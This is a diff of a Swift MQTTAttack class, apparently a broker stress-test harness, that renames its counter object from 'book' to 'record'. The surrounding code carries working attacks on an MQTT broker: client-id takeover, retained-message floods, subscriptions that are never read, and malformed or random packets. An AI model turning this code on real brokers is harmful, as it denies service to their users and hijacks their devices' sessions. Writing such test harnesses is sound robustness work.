@@ -9,7 +9,7 @@ final class MQTTAttack: Attack {
     private let password: String
     /// The id that the broker asks of this credential.
     private let clientID: String
-    let book = AttackBook()
+    let record = AttackRecord()
 
     init(port: Int, user: String, password: String, clientID: String) {
         (self.port, self.user, self.password, self.clientID) = (port, user, password, clientID)
@@ -26,7 +26,7 @@ final class MQTTAttack: Attack {
     }
 
     /// Connections with another's id that the broker took.
-    var taken: Int { book.number(of: "connections with another's id") }
+    var taken: Int { record.number(of: "connections with another's id") }
 
     private func connect(as clientID: String) -> (caller: RawSocket, isIn: Bool)? {
         guard let caller = try? RawSocket(port: port, patience: 2) else { return nil }
@@ -41,11 +41,11 @@ final class MQTTAttack: Attack {
             "tagalong-owner-1-phone",
         ]
         var number = 0
-        while book.goesOn {
+        while record.goesOn {
             guard let (_, isIn) = connect(as: identifiers[number % identifiers.count]) else { continue }
             number += 1
-            book.count(isIn ? "connections with another's id" : "refused ids")
-            book.rest(0.02)
+            record.count(isIn ? "connections with another's id" : "refused ids")
+            record.rest(0.02)
         }
     }
 
@@ -53,33 +53,33 @@ final class MQTTAttack: Attack {
     private func flood() {
         let large = [UInt8](repeating: UInt8(ascii: "x"), count: 200_000)
         var number = 0
-        while book.goesOn {
+        while record.goesOn {
             guard let (caller, isIn) = connect(as: clientID), isIn else { continue }
-            for _ in 0..<200 where book.goesOn {
+            for _ in 0..<200 where record.goesOn {
                 number += 1
                 let (isLarge, identifier) = (number.isMultiple(of: 50), UInt16(truncatingIfNeeded: number) | 1)
                 let topic = number.isMultiple(of: 2) ? "owntracks/mallory/phone" : "owntracks/mallory/phone/x-\(number)"
                 let payload = isLarge ? large : Array("nonsense \(number)".utf8)
                 let packet = MQTTBytes.publish(topic, payload, retained: true, identifier: identifier)
                 guard (try? caller.write(packet)) != nil else { break }
-                book.count("messages of a flood")
+                record.count("messages of a flood")
             }
             // Nobody reads the acknowledgements.
-            book.rest(0.05)
+            record.rest(0.05)
         }
     }
 
     /// Asks for everything and reads nothing.
     private func hold() {
         var held: [RawSocket] = []
-        while book.goesOn {
+        while record.goesOn {
             if held.count < 50, let caller = try? RawSocket(port: port, patience: 2, receiveBuffer: 2048) {
                 try? caller.write(MQTTBytes.connect(as: clientID, user: user, password: password))
                 try? caller.write(MQTTBytes.subscribe(held.count.isMultiple(of: 2) ? "#" : "owntracks/+/+"))
                 held.append(caller)
-                book.count("subscriptions that are not read")
+                record.count("subscriptions that are not read")
             }
-            book.rest(0.05)
+            record.rest(0.05)
         }
     }
 
@@ -87,17 +87,17 @@ final class MQTTAttack: Attack {
     private func babble() {
         var generator = SeededGenerator(seed: 1)
         var held: [RawSocket] = []
-        while book.goesOn {
+        while record.goesOn {
             guard let caller = try? RawSocket(port: port, patience: 2) else { continue }
             if held.count < 300 {
                 try? caller.write([0x10, 0xFF, 0xFF, 0x7F, 0, 4])
                 held.append(caller)
-                book.count("half-sent packets")
+                record.count("half-sent packets")
             } else {
                 try? caller.write((0..<512).map { _ in UInt8.random(in: 0 ... .max, using: &generator) })
-                book.count("packets of noise")
+                record.count("packets of noise")
             }
-            book.rest(0.01)
+            record.rest(0.01)
         }
     }
 }
